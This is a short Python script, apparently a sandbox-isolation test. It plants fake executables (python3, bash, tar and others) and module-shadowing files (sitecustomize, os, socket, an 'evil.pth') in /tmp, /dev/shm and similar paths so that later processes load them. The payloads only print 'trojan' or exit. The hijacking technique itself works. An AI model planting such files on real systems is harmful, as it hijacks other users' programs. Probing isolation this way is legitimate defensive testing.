# Attacks what we start later in the same room: puts programs and modules of its own where ours may be looked for.
import os

PROGRAMS = ("python3", "python", "tar", "unpigz", "gzip", "xz", "sh", "bash", "env", "timeout", "cat", "ls")
MODULES = ("sitecustomize", "usercustomize", "json", "socket", "asyncio", "encodings", "codecs", "site", "os", "stat")
EVIL = "import os\nos.write(1, b'trojan\\n')\nos._exit(0)\n"
for folder in ("/box", "/tmp", "/tmp/bin", "/tmp/.local/bin", "/dev/shm"):
    os.makedirs(folder, exist_ok=True)
    for name in PROGRAMS:
        with open(f"{folder}/{name}", "w") as file:
            file.write("#!/bin/sh\necho trojan\n")
        os.chmod(f"{folder}/{name}", 0o755)
for folder in ("/tmp", "/tmp/.local/lib/python3.11/site-packages", "/dev/shm"):
    os.makedirs(folder, exist_ok=True)
    for name in MODULES:
        with open(f"{folder}/{name}.py", "w") as file:
            file.write(EVIL)
    with open(f"{folder}/evil.pth", "w") as file:
        file.write("import os; os._exit(0)\n")
for name in (".bashrc", ".profile", ".pythonrc.py", ".python_history", ".pdbrc", "pyvenv.cfg", "python311.zip", "python3._pth"):
    with open(f"/tmp/{name}", "w") as file:
        file.write("echo trojan\n")
print("done")
